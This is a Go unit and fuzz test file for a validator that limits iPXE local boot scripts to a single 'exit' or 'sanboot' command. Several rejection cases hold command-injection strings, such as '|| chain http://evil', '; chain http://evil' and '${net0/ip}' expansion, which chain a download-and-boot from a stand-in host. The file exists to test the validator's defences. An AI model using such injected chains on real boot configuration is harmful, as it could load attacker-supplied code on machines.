package httpapi

import (
	"strings"
	"testing"
)

func TestValidateLocalBootScript(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"exit", "exit"},
		{"exit 0", "exit 0"},
		{"exit 1", "exit 1"},
		{"exit 255", "exit 255"},
		{" \texit   1\t", "exit 1"},
		{"sanboot", "sanboot"},
		{"sanboot --no-describe --drive 0x80", "sanboot --no-describe --drive 0x80"},
		{"sanboot --drive=0x81 --no-describe", "sanboot --drive=0x81 --no-describe"},
		{"sanboot --drive 128", "sanboot --drive 128"},
		{"sanboot --drive 0X80", "sanboot --drive 0X80"},
		{"sanboot --drive 0xbb", "sanboot --drive 0xbb"},
		{"sanboot --drive 0200", "sanboot --drive 0200"}, // octal, as iPXE's strtoul reads it
		{"sanboot --keep --drive 0x80", "sanboot --keep --drive 0x80"},
		{"sanboot --drive 0x80 --filename \\EFI\\ubuntu\\shimx64.efi", "sanboot --drive 0x80 --filename \\EFI\\ubuntu\\shimx64.efi"},
		{"sanboot --label EFI-SYSTEM --uuid 0d0c0b0a-0000-4000-8000-000000000001", "sanboot --label EFI-SYSTEM --uuid 0d0c0b0a-0000-4000-8000-000000000001"},
		{"sanboot --extra=/loader.efi", "sanboot --extra=/loader.efi"},
	} {
		got, err := ValidateLocalBootScript(tc.in)
		if err != nil || got != tc.want {
			t.Errorf("ValidateLocalBootScript(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
		}
	}

	for _, tc := range []struct{ in, mention string }{
		{"", "empty"},
		{" \t ", "empty"},
		{"sanboot --drive 0x80 || chain http://evil", `"||"`},
		{"sanboot --drive 0x80 && chain http://evil", `"&&"`},
		{"exit 1 ; chain http://evil", "at most one status"},
		{"sanboot ; chain http://evil", `";"`},
		{"chain http://x", `"chain"`},
		{"imgexec http://x", `"imgexec"`},
		{"shell", `"shell"`},
		{"set net0/ip 203.0.113.5", `"set"`},
		{"EXIT", `"EXIT"`},
		{"sanboot --filename ${x}", "${x}"},
		{"sanboot --filename=${net0/ip}", "${net0/ip}"},
		{"sanboot --label a#b", "a#b"},
		{"sanboot --label 'a'", "'a'"},
		{`sanboot --label "a"`, "--label"},
		{"sanboot --label a;b", "a;b"},
		{"sanboot --label a|b", "a|b"},
		{"sanboot --label a&b", "a&b"},
		{"sanboot --label {x}", "{x}"},
		{"sanboot --label é", "é"},
		{"sanboot --label=", "not allowed"},
		{"sanboot http://203.0.113.9/disk.img", "http://203.0.113.9/disk.img"},
		{"sanboot --drive", "needs a value"},
		{"sanboot --drive 0x100", "0x100"},
		{"sanboot --drive -1", "-1"},
		{"sanboot --drive sda", "sda"},
		{"sanboot --drive 0x8_0", "0x8_0"}, // Go's base-0 syntax, not iPXE's
		{"sanboot --drive 0b10000000", "0b10000000"},
		{"sanboot --drive 0o200", "0o200"},
		{"sanboot --no-describe=1", "takes no value"},
		{"sanboot --filename", "needs a value"},
		{"sanboot --autoboot", "--autoboot"},
		{"exit 1\nchain http://x", "one line"},
		{"exit 1\r", "one line"},
		{"exit 256", "256"},
		{"exit -1", "-1"},
		{"exit 0x1", "0x1"},
		{"exit 1 2", "at most one status"},
		{"sanboot" + strings.Repeat(" --keep", 80), "at most 512"},
	} {
		got, err := ValidateLocalBootScript(tc.in)
		if err == nil {
			t.Errorf("ValidateLocalBootScript(%q) accepted it as %q", tc.in, got)
			continue
		}
		if got != "" || !strings.Contains(err.Error(), tc.mention) {
			t.Errorf("ValidateLocalBootScript(%q) = %q, %v; want an error mentioning %q", tc.in, got, err, tc.mention)
		}
	}
}

// FuzzValidateLocalBootScript: what the validator lets through is a
// single exit or sanboot command with none of the characters iPXE's
// parser gives a meaning to, and validating it again changes nothing (the
// stored form is the served form).
func FuzzValidateLocalBootScript(f *testing.F) {
	for _, s := range []string{
		"exit", "exit 1", "sanboot --no-describe --drive 0x80", "sanboot --drive=0x81 --filename \\EFI\\boot\\bootx64.efi",
		"sanboot --drive 0x80 || chain http://evil", "sanboot --filename ${x}", "exit 1\nchain http://x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out, err := ValidateLocalBootScript(in)
		if err != nil {
			if out != "" {
				t.Fatalf("rejected %q but returned %q", in, out)
			}
			if err.Error() == "" {
				t.Fatalf("rejected %q without a reason", in)
			}
			return
		}
		if strings.ContainsAny(out, "${}|&#;\"'\n\r") {
			t.Fatalf("accepted %q as %q, which holds an iPXE metacharacter", in, out)
		}
		if out != "exit" && out != "sanboot" && !strings.HasPrefix(out, "exit ") && !strings.HasPrefix(out, "sanboot ") {
			t.Fatalf("accepted %q as %q, which is neither exit nor sanboot", in, out)
		}
		again, err := ValidateLocalBootScript(out)
		if err != nil || again != out {
			t.Fatalf("accepted %q as %q, which re-validates to %q, %v", in, out, again, err)
		}
		if len(out) > 512 {
			t.Fatalf("accepted %d bytes", len(out))
		}
	})
}
